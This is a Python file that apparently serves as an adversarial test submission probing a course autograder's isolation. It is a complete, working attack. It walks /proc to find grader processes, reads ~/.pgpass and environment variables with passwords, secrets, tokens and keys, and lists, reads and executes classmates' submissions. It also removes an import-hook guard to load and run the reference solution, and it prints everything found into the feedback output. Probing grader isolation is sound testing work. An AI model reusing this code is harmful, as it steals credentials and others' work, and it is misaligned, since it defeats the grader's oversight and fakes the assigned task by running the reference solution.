"""Reading what it must not: the reference solution (as a file, by running it, and by
importing it with the import hook removed), the grader's environment and ~/.pgpass, the
submissions folder named on the grader's command line (listing it, reading and running a
classmate's file) and the classmates' scratch folders. Everything it finds is printed, so it
would land in its feedback page. With the solution it would do the work: expected 0."""

import glob
import os
import runpy
import subprocess
import sys

FOUND = []


def _say(what, text):
    FOUND.append(what)
    print(f"FOUND {what}: {text[:3000]}")


def _read(path, limit=20000):
    try:
        with open(path, "rb") as stream:
            return stream.read(limit).decode("utf-8", "replace")
    except OSError:
        return None


def _graders():
    """The grader's processes above this one (their command line names the submissions
    folder; their environment holds the instructor's secrets)."""
    pid = os.getppid()
    while pid > 1:
        cmdline = _read(f"/proc/{pid}/cmdline") or ""
        if "adkcourse.grade" in cmdline and "_act" not in cmdline:
            yield str(pid), cmdline.split("\0")
        status = _read(f"/proc/{pid}/status") or ""
        try:
            pid = int(status.split("PPid:")[1].split()[0])
        except (IndexError, ValueError):
            break


def _solution():
    candidates = []
    try:
        import adkcourse
        root = os.path.dirname(list(adkcourse.__path__)[0])
        candidates.append(os.path.join(root, "solutions", "forget_user.py"))
    except Exception:
        pass
    candidates += glob.glob("/**/solutions/forget_user.py", recursive=False)
    candidates += ["/work/main/solutions/forget_user.py"]
    for path in candidates:
        text = _read(path)
        if text:
            _say("solution file", path)
            try:
                return runpy.run_path(path)["forget_user"]
            except Exception as error:
                print("run_path failed", error)
    sys.meta_path[:] = [f for f in sys.meta_path if "NoReference" not in type(f).__name__]
    try:
        from solutions.forget_user import forget_user as reference
        _say("solution import", "ok")
        return reference
    except Exception as error:
        print("import failed", error)
    return None


def _secrets():
    text = _read(os.path.expanduser("~/.pgpass"))
    if text:
        _say("pgpass", text)
    for pid, _ in _graders():
        environ = _read(f"/proc/{pid}/environ")
        if not environ:
            continue
        for entry in environ.split("\0"):
            if entry.startswith("HOME="):
                text = _read(os.path.join(entry[5:], ".pgpass"))
                if text:
                    _say("grader pgpass", text)
        wanted = [e for e in environ.split("\0")
                  if any(word in e.upper() for word in ("PASS", "SECRET", "TOKEN", "KEY"))]
        _say(f"environ of {pid}", " ".join(wanted))


def _classmates():
    for pid, argv in _graders():
        for arg in argv:
            if arg and os.path.isdir(arg):
                names = os.listdir(arg)
                _say(f"listing of {arg}", " ".join(names))
                for name in names:
                    text = _read(os.path.join(arg, name))
                    if text:
                        _say(f"classmate file {name}", text[:200])
                    if name.endswith(".py") and name != "reader.py":
                        run = subprocess.run([sys.executable, os.path.join(arg, name)],
                                             capture_output=True, text=True, timeout=5)
                        _say(f"ran {name}", (run.stdout + run.stderr)[:200])
    here = os.getcwd()
    for folder in {os.path.dirname(here), os.path.dirname(os.path.dirname(here)),
                   "/tmp/adkcourse"}:
        try:
            for name in os.listdir(folder):
                path = os.path.join(folder, name)
                if path != here and os.path.isdir(path):
                    for inner in glob.glob(os.path.join(path, "**"), recursive=True)[:200]:
                        text = _read(inner, 2000) if os.path.isfile(inner) else None
                        if text and "victim" in text:
                            _say(f"sibling file {inner}", text)
        except OSError:
            pass


async def forget_user(service, db_path, app_name, user_id):
    for attack in (_secrets, _classmates):
        try:
            attack()
        except Exception as error:
            print(attack.__name__, "failed:", type(error).__name__, error)
    reference = _solution()
    print("found:", FOUND)
    if reference is not None:
        await reference(service, db_path, app_name, user_id)
